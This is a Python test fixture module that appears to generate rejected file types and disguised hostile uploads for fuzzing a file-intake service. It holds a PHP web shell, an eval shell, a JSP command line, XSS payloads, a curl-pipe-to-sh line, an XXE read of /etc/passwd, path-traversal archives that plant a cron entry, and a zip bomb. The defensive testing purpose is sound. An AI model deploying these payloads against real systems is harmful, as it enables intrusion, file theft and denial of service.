"""Files of types that are not taken, and the programs and scripts that hide in others."""

from __future__ import annotations

import io
import tarfile
import zipfile
from functools import cache

import numpy as np

from tests.fuzz.cases import saved, sheet

PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00"
    + bytes(56)
    + b"\x0e\x1f\xba\x0eThis program cannot be run in DOS mode.\r\n"
    + bytes(300)
)
SCRIPTS = (
    b"<?php system($_GET['c']); ?>",
    b"<html><body><script>alert(1)</script></body></html>",
    b"<!DOCTYPE html><title>x</title>",
    b"<script src=//example.org/x.js></script>",
    b"<svg onload=alert(1)>",
    b'<%@ page language="java" %><% Runtime.getRuntime().exec("id"); %>',
    b"<iframe src=javascript:alert(1)>",
    b"#!/bin/sh\ncurl http://example.org | sh\n",
    b"<?PHP eval($_POST[1]);",
)


@cache
def archive(name: str = "run.exe", *, comment: bytes = b"") -> bytes:
    """A ZIP with a program in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, PROGRAM)
        made.writestr("../../etc/cron.d/x", b"* * * * * root id\n")
        made.comment = comment
    return buffer.getvalue()


@cache
def office(kind: str) -> bytes:
    """The skeleton of a document of an office program, with a macro."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<?xml version='1.0'?><Types/>")
        made.writestr(f"{kind}/document.xml", "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>")
        made.writestr(f"{kind}/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    return buffer.getvalue()


@cache
def zip_bomb() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("0", bytes(20_000_000))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as made:
        for n in range(10):
            made.writestr(f"{n}.zip", inner.getvalue())
    return outer.getvalue()


@cache
def tape() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as made:
        about = tarfile.TarInfo("../../x")
        about.size = len(PROGRAM)
        made.addfile(about, io.BytesIO(PROGRAM))
    return buffer.getvalue()


def others() -> dict[str, bytes]:
    """Files of types that are not taken."""
    page = sheet(1, 1000)
    return {
        "zip": archive(),
        "docx": office("word"),
        "xlsx": office("xl"),
        "ofd": office("OFD"),
        "zipbomb.zip": zip_bomb(),
        "exe": PROGRAM,
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
        "gif": saved(page, "GIF"),
        "bmp": saved(page, "BMP"),
        "webp": saved(page, "WEBP"),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "html": SCRIPTS[1],
        "xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
        "tar": tape(),
        "rtf": b"{\\rtf1\\ansi wage approval}",
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(100),
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100),
        "gz": b"\x1f\x8b\x08\x00" + bytes(100),
        "ps": b"%!PS-Adobe-3.0\n(x) show\n",
        "txt": "王小明，男".encode("gb18030"),
        "jp2": saved(page, "JPEG2000"),
        "ico": saved(page.resize((64, 64)), "ICO"),
        "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(99),
        "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(300),
        "psd": b"8BPS\x00\x01" + bytes(200),
        "eml": b"From: a@example.org\r\nSubject: x\r\n\r\nx",
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(99),
        "sqlite": b"SQLite format 3\x00" + bytes(200),
        "sh": SCRIPTS[7],
        "wasm": b"\x00asm\x01\x00\x00\x00" + bytes(50),
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(80),
        "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
        "json": b'{"a": 1}',
        "csv": b"name,id\n1,2\n",
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(100),
        "emf": b"\x01\x00\x00\x00l\x00\x00\x00" + bytes(100),
        "mp3": b"ID3\x03" + bytes(99),
        "jxl": b"\xff\x0a" + bytes(range(200)),
        "djvu": b"AT&TFORM" + bytes(100),
        "pcx": b"\n\x05\x01\x08" + bytes(200),
        "chm": b"ITSF\x03\x00\x00\x00" + bytes(100),
        "cab": b"MSCF\x00\x00\x00\x00" + bytes(100),
        "noise": np.random.default_rng(5).bytes(5000),
    }
